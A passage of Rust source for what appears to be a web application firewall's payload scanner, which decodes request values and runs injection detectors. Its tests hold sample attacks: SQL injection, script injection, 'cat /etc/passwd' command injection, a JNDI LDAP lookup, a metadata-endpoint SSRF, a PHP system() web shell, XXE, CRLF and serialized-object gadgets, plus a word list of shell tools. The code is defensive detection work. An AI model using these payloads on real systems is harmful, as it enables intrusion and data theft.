//! The request-level scan: locations split into values, each value decoded, prefiltered and run
//! through the detectors, the results summed into [`PayloadFindings`].
//!
//! Input: a [`PayloadInput`] and a reusable [`Scratch`]. Output: [`PayloadFindings`]. Per value
//! the work is: one level of decoding where the location calls for it, a byte-class pass, and,
//! only when the value holds a character some detector needs, a normalization pass and the
//! detectors; when it also holds an encoding, the same again on its deep decoding. A short body
//! field the prefilter rejects before any parsing (`plain`: most strings of a parsed body) only
//! counts, after its one class pass. In the steady state nothing is allocated (libinjection's
//! keyword lookups aside, see [`sqli`](super::sqli)).

use super::classes::{self, Mask};
use super::body::{self, SplitBuffers};
use super::split::{self, Decode, Scope};
use super::{code, crlf, decode, gadget, ldap, serial, shell, sqli, sqlwords, ssrf, template, traversal, xss, xxe, Family, Hits, Location, PayloadFindings};
use crate::decision::{Header, Headers, Texts};

/// What the JS layer hands over for a request. Every field may be empty.
#[derive(Clone, Copy, Debug, Default)]
pub struct PayloadInput<'a> {
    /// The request target as sent: path and optional `?query`, percent-encoded.
    pub path: &'a str,
    /// Body fields joined with `\x1f`: string values (or keys) of a parsed body, or one raw body.
    pub body: &'a str,
    /// Values of headers an app may echo or log (referer, user-agent, x-forwarded-*, custom
    /// x-*), joined with `\x1f`.
    pub headers: &'a str,
    /// Raw Cookie header value(s), joined with `\x1f` when there are several.
    pub cookies: &'a str,
}

impl<'a> PayloadInput<'a> {
    /// An input whose only text is `text`, in the field that carries `location` (the request
    /// target carries both [`Location::Path`] and [`Location::Query`]).
    pub fn only(location: Location, text: &'a str) -> Self {
        let mut input = Self::default();
        match location {
            Location::Path | Location::Query => input.path = text,
            Location::Body => input.body = text,
            Location::Header => input.headers = text,
            Location::Cookie => input.cookies = text,
        }
        input
    }
}

/// Buffers reused across scans, so that a scan does not allocate once they have grown.
#[derive(Debug, Default)]
pub struct Scratch {
    split: SplitBuffers,
    values: ValueBuffers,
}

#[derive(Debug, Default)]
struct ValueBuffers {
    level1: Vec<u8>,
    deep: Vec<u8>,
    tmp: Vec<u8>,
    /// The text of a `data:` URI's base64 (`decode::data_uri_text`).
    data: Vec<u8>,
    detect: DetectBuffers,
    last: Last,
}

/// Longest value [`Last`] keeps.
const LAST_MAX: usize = 64;

/// The last value of this request the detectors judged and what they found: a path of `;/`
/// repeated hands the same segment over thousands of times. Kept only when the libinjection
/// budget had no part in the result (none of it spent, nothing cut), so that the result is the
/// value's alone; forgotten at the next request, so each request's scan does its own work. Only
/// short values are kept: copying a long one costs more than the repeats it might save.
#[derive(Debug, Default)]
struct Last {
    key: Option<(Decode, Location, Scope)>,
    raw: Vec<u8>,
    judged: (Found, bool),
}

#[derive(Debug, Default)]
struct DetectBuffers {
    norm: Vec<u8>,
    aux: Vec<u8>,
    /// The value with its inner tags removed once (`xss::strip_once`).
    stripped: Vec<u8>,
    /// Bytes libinjection may still see in this request.
    budget: usize,
}

/// What the detectors found in one text.
#[derive(Clone, Copy, Debug, Default)]
struct Found {
    hits: Hits,
    /// Families confirmed only through a detector's own de-obfuscation (SQL comments, nested
    /// log4j lookups).
    deobfuscated: u16,
    truncated: bool,
    /// A SQL near miss people's text never opens with (see `sqli::Verdict::probe`).
    probe: bool,
}

/// Whether a value is worth the detectors: it holds a trigger class, a `--` comment, a `UNION`
/// with a comma (`x UNION SELECT a,b`), after a number, or before a select list that reads as
/// SQL, bytes the deep decoder turns into ASCII (full-width forms, overlong UTF-8), with a `:`, a
/// character a Latin-1 header writer cuts to a line break (`嘊Set-Cookie:…`), or it starts like a
/// serialized stream in base64 or hex (`rO0AB…`).
#[inline]
fn worth_it(text: &[u8], mask: Mask) -> bool {
    if quiet(text, mask) {
        return number_then_union(text);
    }
    let triggers = mask & classes::TRIGGERS;
    // A `/` alone (`America/Chicago`, `12/05/2024`) only matters to a path or URL that starts the
    // value (a metadata host's too, with no scheme), or to dot segments; a `:` alone (`10:30`) to
    // nothing.
    let slash_only = triggers == classes::SLASH && !matches!(text.first(), Some(b'/' | b'\\')) && !classes::contains(text, b"..") && !ssrf::starts_like_metadata(text);
    (triggers != 0 && !slash_only && triggers != classes::COLON)
        || (mask & classes::DASH != 0 && double_dash(text))
        // An injection into a name needs no mark either (`id union select password from users`):
        // letters and blanks, worth the detectors when its select list reads as SQL (which the
        // SQLi detector reads again, on the normalized value: such values are rare).
        || (classes::contains_ignore_case(text, b"union") && (mask & classes::COMMA != 0 || sqlwords::union_select(&text.to_ascii_lowercase())))
        || number_then_union(text)
        || (mask & classes::HIGH != 0 && (memchr::memchr3(0xEF, 0xC0, 0xC1, text).is_some() || memchr::memchr(0xE0, text).is_some()))
        || (triggers == classes::COLON && mask & classes::HIGH != 0 && crlf::has_unicode_break(text))
        || text.get(..6).is_some_and(|p| p.eq_ignore_ascii_case(b"class.") || p.eq_ignore_ascii_case(b"class["))
        || text.starts_with(b"__proto__")
        // (A long value's mask has no `.` unless it has special bytes too: searched for instead.)
        || (memchr::memmem::find(text, b"oader").is_some() && classes::contains_ignore_case(text, b"classloader"))
        || serial::starts_like_stream(text)
        || gadget::starts_like_type(text)
        || gadget::starts_like_pickle_base64(text)
        || text.first() == Some(&0x80)
}

/// Most values: short, with no class a test of [`worth_it`] needs (and so no byte ≥ 0x80, which
/// a short value's mask always shows), where only a number before `union` matters.
#[inline(always)]
fn quiet(text: &[u8], mask: Mask) -> bool {
    mask & (classes::TRIGGERS | classes::DASH | classes::COMMA | classes::HIGH) == 0 && text.len() < SHORT
}

// A quiet value is no base64 text ([`ValueBuffers::value`] counts on it).
const _: () = assert!(SHORT <= decode::BASE64_MIN);

/// Whether `text` holds `--`: a short value (a date, a SKU, a locale) by one pass over its pairs,
/// which costs less than setting up a search.
fn double_dash(text: &[u8]) -> bool {
    if text.len() <= 32 {
        text.windows(2).any(|w| w == b"--")
    } else {
        classes::contains(text, b"--")
    }
}

/// Values shorter than this start like no serialized stream or type name that [`worth_it`] looks
/// for (the shortest it reads is 16 bytes).
const SHORT: usize = 16;

/// A numeric parameter's `1 UNION SELECT password FROM users` needs no mark at all: a number (maybe
/// signed, after blanks or a form's `+`), blanks, then `union` ("1. Union select committee" is a
/// list item).
#[inline]
fn number_then_union(text: &[u8]) -> bool {
    // Most values start with a letter: no number, so no need for the passes below.
    if !matches!(text.first(), Some(b' ' | b'+' | b'\t' | b'-' | b'0'..=b'9')) {
        return false;
    }
    let s = &text[text.iter().take(8).take_while(|&&b| matches!(b, b' ' | b'+' | b'\t')).count()..];
    let s = s.strip_prefix(b"-").unwrap_or(s);
    let digits = s.iter().take(20).take_while(|b| b.is_ascii_digit()).count();
    let blanks = s[digits..].iter().take(8).take_while(|&&b| matches!(b, b' ' | b'+' | b'\t')).count();
    digits > 0 && blanks > 0 && s[digits + blanks..].get(..5).is_some_and(|w| w.eq_ignore_ascii_case(b"union"))
}

/// Whether a body field only counts, whatever the detectors: [`worth_it`] rejects it, which
/// leaves no byte a JSON, form or multipart structure needs either (`{`, `[`, `"`, `=`, a line
/// break), and it is no base64 word. Most strings of a parsed body are such; their scan is then
/// this one pass over their bytes. Longer fields (prose, a raw body) go the whole way untested:
/// the pass, paid twice whenever it fails, then costs more than the per-field work it saves.
fn plain(field: &[u8]) -> bool {
    use classes::{DASH, EQ, PLUS, SLASH};
    const MAX: usize = 128;
    if field.is_empty() || field.len() > MAX {
        return false;
    }
    let mask = classes::mask(field);
    !worth_it(field, mask) && (mask & !(SLASH | EQ | PLUS | DASH) != 0 || decode::base64_word(field).is_none())
}

impl DetectBuffers {
    /// Runs the detectors on `text` (found in `location`); `decoded_breaks`: its line breaks, if
    /// any, all came from the deep decoding.
    fn run(&mut self, text: &[u8], mask: Mask, scope: Scope, location: Location, decoded_breaks: bool) -> Found {
        let mut f = Found::default();
        decode::normalize(text, &mut self.norm);
        let norm = self.norm.as_slice();
        let mut mark = |family: Family, (confirmed, suspicious): (bool, bool)| {
            if confirmed {
                f.hits.confirm(family);
            } else if suspicious {
                f.hits.suspect(family);
            }
        };
        let (confirmed, suspicious) = traversal::detect(norm, mask, &mut self.aux);
        let nul = mask & classes::CTRL != 0 && traversal::nul_truncation(text);
        mark(Family::Traversal, (confirmed || nul, suspicious || nul));
        if scope == Scope::TraversalOnly {
            return f;
        }
        let v = sqli::detect(text, norm, mask, &mut self.budget, &mut self.aux);
        mark(Family::Sqli, (v.confirmed, v.suspicious));
        f.truncated = v.truncated;
        f.probe = v.probe && !v.confirmed;
        if v.obfuscated {
            f.deobfuscated |= 1 << Family::Sqli as u16;
        }
        let (xss_confirmed, xss_suspicious) = xss::detect(norm, text, mask, &mut self.aux);
        mark(Family::Xss, (xss_confirmed || xss::detect_stripped(norm, mask, &mut self.stripped, &mut self.aux), xss_suspicious));
        mark(Family::Command, shell::detect(norm, mask));
        mark(Family::Template, template::detect(norm, mask));
        let (c, s, resolved) = template::detect_jndi(norm, mask, &mut self.aux);
        mark(Family::Jndi, (c, s));
        if c && resolved {
            f.deobfuscated |= 1 << Family::Jndi as u16;
        }
        let page_url = matches!(scope, Scope::PageUrl | Scope::OwnPage);
        if !page_url {
            mark(Family::Ssrf, ssrf::detect(norm, mask));
        }
        mark(Family::Code, code::detect(norm, text, mask, &mut self.aux));
        mark(Family::Xxe, xxe::detect(norm, mask, location == Location::Header));
        mark(Family::Crlf, crlf::detect(text, mask, location, decoded_breaks, page_url));
        mark(Family::Ldap, ldap::detect(norm, mask));
        f
    }
}

impl Found {
    /// Adds what a second reading of the value (a decoding) found; returns whether it confirmed
    /// a family this reading had not.
    fn add(&mut self, again: Found) -> bool {
        let new = again.hits.confirmed & !self.hits.confirmed != 0;
        self.hits.confirmed |= again.hits.confirmed;
        self.hits.suspicious |= again.hits.suspicious;
        self.probe |= again.probe;
        self.truncated |= again.truncated;
        new
    }
}

impl ValueBuffers {
    /// Readies the buffers for a new request.
    fn start(&mut self) {
        self.detect.budget = sqli::BUDGET;
        self.last.key = None;
    }

    /// Scans one value; `known`: its [`classes::mask`], when the splitter has it.
    #[inline]
    fn value(&mut self, raw: &[u8], how: Decode, location: Location, scope: Scope, known: Option<Mask>, out: &mut PayloadFindings) {
        // Most strings of a parsed body (keys, names, numbers) are not decoded, have the mask the
        // splitter read, and are too short for base64 (`decode::BASE64_MIN`): a quiet one only
        // counts, with no call.
        if how == Decode::None && known.is_some_and(|mask| quiet(raw, mask)) && !number_then_union(raw) {
            out.values = out.values.saturating_add(1);
            return;
        }
        self.value_in_full(raw, how, location, scope, known, out);
    }

    /// [`Self::value`], the whole way.
    #[inline(never)]
    fn value_in_full(&mut self, raw: &[u8], how: Decode, location: Location, scope: Scope, known: Option<Mask>, out: &mut PayloadFindings) {
        out.values = out.values.saturating_add(1);
        let ValueBuffers { level1, deep, tmp, data, detect, last } = self;
        let plus = how == Decode::PercentPlus;
        let decoded = how != Decode::None && (classes::find_byte(b'%', raw).is_some() || plus && classes::find_byte(b'+', raw).is_some());
        let text: &[u8] = if decoded {
            decode::percent(raw, plus, level1);
            level1
        } else {
            raw
        };
        // A mask the splitter read is the raw value's, and so the text's when it was not decoded.
        let mask = match known {
            Some(mask) if !decoded => mask,
            _ => classes::mask(text),
        };
        let base64 = location == Location::Body && decode::base64_text(text, mask, deep);
        if !worth_it(text, mask) && !base64 {
            return;
        }
        let key = Some((how, location, scope));
        let (found, obfuscated) = 'judged: {
            if last.key == key && last.raw == raw {
                break 'judged last.judged;
            }
            let budget = detect.budget;
            let mut found = if base64 { Found::default() } else { detect.run(text, mask, scope, location, false) };
            let mut obfuscated = found.deobfuscated & found.hits.confirmed != 0;
            if base64 {
                // Text sent as base64 in a body field (`{"data":"PHNjcmlwdD4…"}`): what it decodes
                // to is judged as a deep decoding is.
                let m = classes::mask(deep);
                if worth_it(deep, m) {
                    found = detect.run(deep, m, scope, location, false);
                    obfuscated = found.hits.confirmed != 0;
                }
            } else if mask & classes::ENCODED != 0 && decode::deep(text, deep, tmp) > 0 {
                let mut again = detect.run(deep, classes::mask(deep), scope, location, mask & classes::NEWLINE == 0);
                // A step up that only the deep decoding shows, through an encoding no library
                // writes (`..%c0%af`, `..%u2215`, `..%bg%qf`), hides from a filter; an encoded
                // relative link (`..%2Fdashboard`, `..%5Creports`) is written with `%2F` or `%5C`.
                if again.hits.any(Family::Traversal) && !found.hits.any(Family::Traversal) && decode::exotic(text) {
                    again.hits.confirm(Family::Traversal);
                }
                obfuscated |= found.add(again);
            }
            // A `data:` URI's base64 text (`?page=data:;base64,PD9waHAg…`, an `href` in markup),
            // read once as a deep decoding is; the text it decodes to is not searched for URIs
            // again.
            if mask & classes::COLON != 0 && mask & classes::SEMI != 0 && decode::data_uri_text(text, data) {
                let mut again = detect.run(data, classes::mask(data), scope, location, false);
                // PHP source as a data stream is what `include` of user input runs through the
                // `data:` wrapper (allow_url_include): confirmed whatever the code does.
                if code::php_source(&detect.norm) {
                    again.hits.confirm(Family::Code);
                }
                obfuscated |= found.add(again);
            }
            if scope == Scope::OwnPage {
                found.hits.suspicious |= found.hits.confirmed;
                found.hits.confirmed = 0;
                found.probe = false;
                obfuscated = false;
            }
            if detect.budget == budget && !found.truncated && raw.len() <= LAST_MAX {
                last.key = key;
                last.raw.clear();
                last.raw.extend_from_slice(raw);
                last.judged = (found, obfuscated);
            }
            (found, obfuscated)
        };
        out.obfuscated |= obfuscated;
        out.truncated |= found.truncated;
        // Most values that reach the detectors hit nothing.
        if found.hits.confirmed | found.hits.suspicious == 0 {
            return;
        }
        for &family in Family::ALL {
            let i = family.index();
            // The rest of a path only adds what its segments (or the other rest) did not find.
            if scope == Scope::Joined && (out.locations[i] & location.bit() != 0 || (!found.hits.has(family) && out.suspicious[i] > 0)) {
                continue;
            }
            if found.hits.has(family) {
                out.confirmed[i] = out.confirmed[i].saturating_add(1);
                out.locations[i] |= location.bit();
            } else if found.hits.suspicious & (1 << family as u16) != 0 {
                out.suspicious[i] = out.suspicious[i].saturating_add(1);
            }
        }
        if found.probe && !found.hits.has(Family::Sqli) && scope != Scope::Joined {
            out.sql_probes = out.sql_probes.saturating_add(1);
        }
    }
}

/// Scans every location of a request.
pub fn scan(input: &PayloadInput<'_>, scratch: &mut Scratch) -> PayloadFindings {
    let mut out = PayloadFindings::default();
    let Scratch { split, values } = scratch;
    values.start();
    let mut sink = |v: &[u8], how: Decode, location: Location, scope: Scope, known: Option<Mask>| values.value(v, how, location, scope, known, &mut out);
    split::path(input.path.as_bytes(), &mut sink);
    let plain_fields = body_fields(split::pieces(input.body.as_bytes(), split::FIELD_SEPARATOR), |_| false, split, &mut sink);
    split::headers(input.headers.as_bytes(), &mut sink);
    split::cookies(input.cookies.as_bytes(), &mut sink);
    out.values = out.values.saturating_add(u16::try_from(plain_fields).unwrap_or(u16::MAX));
    out
}

/// Parses and scans each body field but the plain ones (see [`plain`]) and those `stored` says
/// an app stores unread; returns how many were plain, which only count.
fn body_fields<'f, S: split::Sink>(fields: impl Iterator<Item = &'f [u8]>, stored: impl Fn(&[u8]) -> bool, split: &mut SplitBuffers, sink: &mut S) -> usize {
    let mut plain_fields = 0;
    for field in fields {
        if plain(field) {
            plain_fields += 1;
        } else if !stored(field) {
            body::field_of(field, split, sink);
        }
    }
    plain_fields
}

/// Headers with a fixed grammar that apps parse rather than echo, log or store; while a value fits
/// that grammar (see [`fits_grammar`]) it is skipped, as its benign values
/// (`text/html,application/xhtml+xml;q=0.9`) would only cost detector time. Every other header,
/// known or custom, is scanned (Accept-Language is logged, Origin reflected into CORS headers).
const FIXED_GRAMMAR: &[Header] = &[
    Header::SecChUa,
    Header::SecChUaMobile,
    Header::SecChUaPlatform,
    Header::Accept,
    Header::AcceptEncoding,
    Header::SecFetchMode,
    Header::SecFetchSite,
    Header::SecFetchDest,
    Header::SecFetchUser,
    Header::UpgradeInsecureRequests,
    Header::Connection,
    Header::Te,
    Header::Priority,
];

/// Whether a fixed-grammar header's value is made of what its grammar allows: tokens, media
/// types, `q=` weights, `?1` and, between quotes, client-hint brands (Chromium's grease brands use
/// `( ) : / . ; = ? _`). Anything else (a quote mark, `$`, `%`, `<`, a `..`) is scanned like any
/// header: a client that breaks the grammar chose what to put there.
fn fits_grammar(value: &[u8]) -> bool {
    let mut quoted = false;
    let mut prev = 0u8;
    value.iter().all(|&b| {
        // One table lookup a byte: most are tokens.
        let ok = match GRAMMAR[b as usize] {
            Grammar::Token => true,
            Grammar::Quote => {
                quoted = !quoted;
                true
            }
            Grammar::Dot => prev != b'.',
            Grammar::QuotedOnly => quoted,
            Grammar::Other => false,
        };
        prev = b;
        ok
    })
}

/// What [`fits_grammar`] makes of a byte.
#[derive(Clone, Copy)]
enum Grammar {
    /// Anywhere: letters, digits, ` ,/;=*+-_?`.
    Token,
    Quote,
    /// Not after another `.`.
    Dot,
    /// Only between quotes: `( ) :`.
    QuotedOnly,
    Other,
}

static GRAMMAR: [Grammar; 256] = {
    let mut t = [Grammar::Other; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        t[b] = match c {
            b'"' => Grammar::Quote,
            b'.' => Grammar::Dot,
            _ if c.is_ascii_alphanumeric() => Grammar::Token,
            b' ' | b',' | b'/' | b';' | b'=' | b'*' | b'+' | b'-' | b'_' | b'?' => Grammar::Token,
            b'(' | b')' | b':' => Grammar::QuotedOnly,
            _ => Grammar::Other,
        };
        b += 1;
    }
    t
};

/// Scans a request as the decision layer holds it: the request target, each header value (the
/// Cookie header as cookies; `headers` tells which known header each pair is), the email and each
/// body field.
pub fn scan_texts(texts: &Texts<'_>, headers: &Headers<'_>, scratch: &mut Scratch) -> PayloadFindings {
    let mut out = PayloadFindings::default();
    let Scratch { split, values } = scratch;
    values.start();
    let mut sink = |v: &[u8], how: Decode, location: Location, scope: Scope, known: Option<Mask>| values.value(v, how, location, scope, known, &mut out);
    split::path(texts.path.as_bytes(), &mut sink);
    let mut binary_media = false;
    let host = if headers.has(Header::Host) { headers.get(Header::Host) } else { headers.get(Header::Authority) };
    for ((_, value), &header) in texts.header_pairs().zip(headers.kinds()) {
        binary_media |= header == Some(Header::ContentType) && body::binary_media(value);
        match header {
            Some(Header::Cookie) => split::cookies(value.as_bytes(), &mut sink),
            Some(h) if FIXED_GRAMMAR.contains(&h) && fits_grammar(value.as_bytes()) => {}
            Some(Header::Referer | Header::Origin) => {
                sink(value.as_bytes(), Decode::Percent, Location::Header, Scope::PageUrl, None);
                // The page's path segments and query values too, as the app reads its own: a
                // scanner puts its payload in the Referer's path for apps that log or echo it,
                // where the whole URL's scheme and host keep it from starting like one. The query
                // of a page of this site was this app's own request, judged then: what it
                // confirms only counts as suspicious (a search for `/etc/hosts` must not deny its
                // visitor's every later click), as the client writes the Host header too.
                if let Some((authority, target)) = split::page_target(value.as_bytes()) {
                    let own = !host.is_empty() && authority.eq_ignore_ascii_case(host.as_bytes());
                    split::path(target, &mut |v: &[u8], how, location, scope, known| {
                        let scope = match scope {
                            Scope::Joined => return,
                            Scope::TraversalOnly => scope,
                            _ if own && location == Location::Query => Scope::OwnPage,
                            _ => Scope::PageUrl,
                        };
                        sink(v, how, Location::Header, scope, known);
                    });
                }
            }
            _ => split::headers(value.as_bytes(), &mut sink),
        }
    }
    // The email usually also arrives in the body; scanning it again only adds a count.
    body::fields(texts.email.as_bytes(), split, &mut sink);
    // A photo or an archive PUT as the body is stored, not parsed (see `body::binary`).
    let stored = |field: &[u8]| binary_media && body::binary(field);
    let plain_fields = body_fields(texts.body_fields().map(str::as_bytes), stored, split, &mut sink);
    out.values = out.values.saturating_add(u16::try_from(plain_fields).unwrap_or(u16::MAX));
    out
}

/// Scans one value as the app receives it in `location` (`how`: the decoding the app applies),
/// with a fresh libinjection budget; for measurements and tests.
pub fn scan_value(value: &[u8], how: Decode, location: Location, scratch: &mut Scratch) -> PayloadFindings {
    let mut out = PayloadFindings::default();
    scratch.values.start();
    scratch.values.value(value, how, location, Scope::All, None, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// A body field through the whole path (parsing, decoding, prefilters, detectors), as if no
    /// fast path existed, and the libinjection budget it used.
    fn full_path(field: &[u8]) -> (PayloadFindings, usize) {
        let mut out = PayloadFindings::default();
        let Scratch { split, values } = &mut Scratch::default();
        values.start();
        body::field_of(field, split, &mut |v: &[u8], how, location, scope, known| values.value(v, how, location, scope, known, &mut out));
        (out, sqli::BUDGET - values.detect.budget)
    }

    /// Material of every detector and of the prefilter's word checks: words, and the punctuation
    /// the prefilter lets through alone or in pairs it looks for (`-`, `,`, `/`, `:`), which make
    /// the fields `plain` has to judge; then trigger bytes, as a control.
    const WORDS: &[&str] = &[
        "-", "--", ",", "/", "//", ":", "a-b", "-1", "a,b", "1,2", "union all select 1,2", "UNION", "/etc/passwd", "C:", "10:30",
        "1", "0", "or", "OR", "and", "true", "1 or true", "or 1", "union", "select", "all", "from", "where", "sleep", "benchmark",
        "waitfor delay", "pg_sleep", "xp_cmdshell", "information_schema", "drop table", "exec", "having", "like", "null",
        "script", "alert", "onerror", "onload", "javascript", "vbscript", "data", "svg", "img", "iframe", "expression", "import",
        "jndi", "ldap", "rmi", "lower", "env", "system", "exec", "cat", "etc", "passwd", "id", "whoami", "curl", "wget", "bash",
        "nc", "powershell", "cmd", "localhost", "127.0.0.1", "169.254.169.254", "0x7f000001", "2130706433", "metadata",
        "metadata.google.internal", "file", "gopher", "dict", "http", "https", "etc.passwd", "win.ini", "boot.ini", "proc",
        "self", "environ", "rO0AB", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "Tzo4", "TzozOiJGb28i", "aced0005", "ACED0005737200",
        "gASV", "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg", "gANjb3MKc3lzdGVt", "cos", "posix", "nt", "subprocess",
        "System.Diagnostics.Process", "system.windows.data.objectdataprovider", "javax.script.ScriptEngineManager",
        "com.sun.rowset.JdbcRowSetImpl", "org.apache.commons", "php", "eval", "assert", "base64_decode", "phpinfo", "md5",
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "JyBvciAxPTEtLQ", "Li4vLi4vZXRjL3Bhc3N3ZA", "JHtqbmRpOmxkYXA6Ly94L2F9",
        "YWxlcnQoMSk", "QUFBQUFBQUFBQUFBQUFBQQ", "dGVzdA", "+", "_", ".", "@", "?", "!", "~", "^", " ", "  ", "\t", "é", "ß",
        "\u{2460}", "\u{FF0E}", "\u{560A}", "\u{560D}", "\u{2028}", "\u{85}", "ｓｃｒｉｐｔ", "嘊Set-Cookie", "ᴬ", "K",
    ];
    const SPECIAL: &[&str] = &[
        "'", "\"", "`", "<", ">", "{{", "}}", "${", "#{", "%{", "<%", ";", "|", "&", "&&", "$(", "../", "..\\", "%2e", "%27",
        "%25", "%u0027", "&#", "&#x3c;", "\\u003c", "\\x3c", "/*", "=", "://", "\n", "\r\n", "\n--", "(", ")",
        "[", "]", "{", "}", "*", "#", "\\", "/", "\0", "\u{7f}", "<!ENTITY", "!!python/", "\"$type\":", "O:8:\"",
    ];

    /// Fields from that material, and a few raw bytes (a raw body's field is any bytes).
    fn field() -> impl Strategy<Value = Vec<u8>> {
        let word = prop::sample::select(WORDS).prop_map(|w| w.as_bytes().to_vec());
        let special = prop::sample::select(SPECIAL).prop_map(|w| w.as_bytes().to_vec());
        let byte = prop::sample::select(vec![0x80u8, 0xC0, 0xC1, 0xE0, 0xEF, 0xE5, 0x98, 0x8A, 0xFF, b'A', b'z', b'9']).prop_map(|b| vec![b]);
        let piece = prop_oneof![12 => word, 1 => special, 1 => byte];
        let plain_words = prop::collection::vec(prop::sample::select(WORDS), 1..8).prop_map(|ws| ws.concat().into_bytes());
        prop_oneof![3 => plain_words, 1 => prop::collection::vec(piece, 1..12).prop_map(|ps| ps.concat())]
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 20_000, ..ProptestConfig::default() })]

        /// The fast path skips only fields the whole path would only count.
        #[test]
        fn a_plain_field_is_one_the_whole_path_only_counts(field in field()) {
            if plain(&field) {
                let (found, budget_used) = full_path(&field);
                prop_assert_eq!(found, PayloadFindings { values: 1, ..PayloadFindings::default() }, "{:?}", String::from_utf8_lossy(&field));
                prop_assert_eq!(budget_used, 0);
            }
        }
    }

    #[test]
    fn no_value_shorter_than_short_starts_like_a_stream_or_type() {
        let words = ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "TzozOiJGb28iOjA6e30", "aced0005737200116a617661", "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg"];
        let types = ["System.Windows.Data.ObjectDataProvider", "system.diagnostics.process", "com.sun.rowset.JdbcRowSetImpl", "javax.script.ScriptEngineManager", "org.apache.commons"];
        for w in words.iter().chain(&types) {
            // Long enough for every test (a stream needs `serial::MIN_STREAM` bytes).
            let w = format!("{w}{}", "A".repeat(64));
            let w = w.as_bytes();
            assert!(serial::starts_like_stream(w) || gadget::starts_like_type(w) || gadget::starts_like_pickle_base64(w), "{w:?}");
            for len in 0..SHORT {
                let short = &w[..len];
                assert!(!serial::starts_like_stream(short) && !gadget::starts_like_type(short) && !gadget::starts_like_pickle_base64(short));
                assert_eq!(worth_it(short, classes::mask(short)), number_then_union(short));
            }
        }
    }

    #[test]
    fn plain_skips_prose_and_keys_but_not_word_shaped_payloads() {
        let prose = ["dark blue", "leave it at the door", "amount", "19.9", "anna.smith@gmail.com", "1 or true", "Straße", "gift wrap 7"];
        for f in prose.iter().chain(&["SKU-1000", "Organic cotton shirt, size S", "America/Chicago", "10:30", "-1"]) {
            assert!(plain(f.as_bytes()), "{f}");
        }
        let words = ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "aced0005737200116a617661", "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg"];
        let more = ["PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "System.Diagnostics.Process", "1 union select a,b", "1--", "/etc/passwd", "x=1", "a\nb", "ｓ"];
        for f in words.iter().chain(&more) {
            assert!(!plain(f.as_bytes()), "{f}");
        }
        assert!(!plain(b"") && !plain(b"\x80\x04\x95"), "nothing to count, a raw pickle");
        assert!(plain("a b ".repeat(32).as_bytes()) && !plain("a b ".repeat(33).as_bytes()), "only up to 128 bytes");
        assert!(full_path(b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg").0.confirmed(Family::Xss) == 1, "a base64 payload is why base64 words are not plain");
    }

    fn query(q: &str) -> PayloadFindings {
        let path = format!("/search?q={q}");
        scan(&PayloadInput { path: &path, ..Default::default() }, &mut Scratch::default())
    }

    #[test]
    fn one_payload_per_family_is_confirmed_where_it_is() {
        let cases = [
            (Family::Sqli, "1%27%20OR%20%271%27%3D%271"),
            (Family::Xss, "%3Cscript%3Ealert(1)%3C/script%3E"),
            (Family::Command, "x%3Bcat+/etc/passwd"),
            (Family::Traversal, "..%2F..%2F..%2Fetc%2Fpasswd"),
            (Family::Template, "%7B%7B7*7%7D%7D"),
            (Family::Jndi, "%24%7Bjndi:ldap://x.example/a%7D"),
            (Family::Ssrf, "http://169.254.169.254/latest/meta-data/"),
            (Family::Code, "%3C%3Fphp+system(%24_GET%5Bc%5D)%3B"),
            (Family::Xxe, "%3C!DOCTYPE+x+%5B%3C!ENTITY+e+SYSTEM+%22file:///etc/passwd%22%3E%5D%3E%3Cx%3E%26e;%3C/x%3E"),
            (Family::Crlf, "en%0D%0ASet-Cookie:+sid%3Devil"),
        ];
        for (family, q) in cases {
            let f = query(q);
            assert!(f.confirmed(family) == 1 && f.confirmed_in(family, Location::Query), "{family:?} {q}: {f:?}");
            assert!(!f.obfuscated, "{q}");
        }
    }

    #[test]
    fn a_cookie_reads_plus_as_a_blank_as_php_does() {
        let f = scan(&PayloadInput { cookies: "sid=1; cart=%27+or+0%3D0+--", ..Default::default() }, &mut Scratch::default());
        assert!(f.confirmed_in(Family::Sqli, Location::Cookie), "{f:?}");
    }

    #[test]
    fn a_numeric_parameters_union_needs_no_mark() {
        assert_eq!(query("1+union+select+password+from+users").confirmed(Family::Sqli), 1);
        assert_eq!(query("-1%20UNION%20ALL%20SELECT%20NULL").confirmed(Family::Sqli), 1);
        assert_eq!(query("+1+union+select+password+from+users").confirmed(Family::Sqli), 1);
        assert!(!query("10+union+members").any_confirmed() && !query("2+union+square").any_confirmed());
        assert!(!query("1.+Union+select+committee").any_confirmed());
        assert_eq!(query("id+union+select+password+from+users+limit+1").confirmed(Family::Sqli), 1);
        assert!(!query("Our+union+select+committee+meets+on+Monday").any_confirmed());
    }

    #[test]
    fn double_encoding_is_found_and_flagged_obfuscated() {
        let f = query("%253Cscript%253Ealert(1)%253C%252Fscript%253E");
        assert_eq!(f.confirmed(Family::Xss), 1);
        assert!(f.obfuscated);
        let f = query("1%2527%2520OR%2520%25271%2527%253D%25271");
        assert_eq!(f.confirmed(Family::Sqli), 1);
        assert!(f.obfuscated);
    }

    #[test]
    fn benign_requests_find_nothing() {
        let input = PayloadInput {
            path: "/products/shoes/42?color=dark+blue&size=10&ref=https%3A%2F%2Fshop.example%2F",
            body: "{\"name\":\"Mary O'Brien\",\"email\":\"mary@example.com\",\"note\":\"Leave it at the door; thanks!\"}\x1fselect your size",
            headers: "https://shop.example/cart\x1fMozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            cookies: "sid=abc123; theme=dark; consent=%7B%22ads%22%3Afalse%7D",
        };
        let f = scan(&input, &mut Scratch::default());
        assert!(!f.any_confirmed(), "{f:?}");
        assert!(f.values > 10);
    }

    /// Pathological inputs: every unit repeated to 16 and to 64 KB, in every location. The work
    /// counted (bytes passes read, candidates loops try) must stay under 200 steps a byte, and
